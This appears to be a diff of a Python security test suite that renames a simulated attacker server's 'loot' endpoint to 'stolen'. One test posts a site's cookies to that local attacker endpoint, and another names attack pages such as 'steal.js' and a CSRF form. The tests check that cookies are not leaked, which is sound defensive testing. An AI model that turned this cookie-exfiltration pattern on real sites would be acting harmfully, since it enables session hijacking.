@@ -103,10 +103,10 @@ def test_mallorys_server_neither_keeps_them_nor_passes_them_on(server: Server) -
             assert answer.ok
             hold_nothing(answer.text, answer.headers)
         said = f"{COOKIES}; {server.settings.cookie.name}=eyours\nfrom the storage"
-        url = mallory.url("127.0.0.1", "loot")
+        url = mallory.url("127.0.0.1", "stolen")
         requests.post(url, data=said, headers={"Cookie": COOKIES}, timeout=60)
-        hold_nothing(mallory.loot, vars(mallory), wire.heard, list(server.exchanges))
-        assert mallory.loot == [f"{server.settings.cookie.name}=eyours\nfrom the storage"]
+        hold_nothing(mallory.stolen, vars(mallory), wire.heard, list(server.exchanges))
+        assert mallory.stolen == [f"{server.settings.cookie.name}=eyours\nfrom the storage"]
         assert len(wire.heard) >= 2  # Mallory's own account, made for her
     finally:
         mallory.stop()
@@ -126,7 +126,7 @@ def test_nothing_answers_at_localhost_or_behind_a_proxy(
 def test_neither_does_mallorys_server(mallory: Attacker, headers: dict[str, str]) -> None:
     for name in ("csrf-form.html", "steal.js", "cookie-tossing.html", "nothing"):
         assert ask(mallory.url("127.0.0.1", name), **headers).status_code == 421
-    assert ask(mallory.url("127.0.0.1", "loot"), "POST", **headers).status_code == 421
+    assert ask(mallory.url("127.0.0.1", "stolen"), "POST", **headers).status_code == 421
 
 
 def test_no_path_below_a_proxy_is_known(server: Server) -> None:
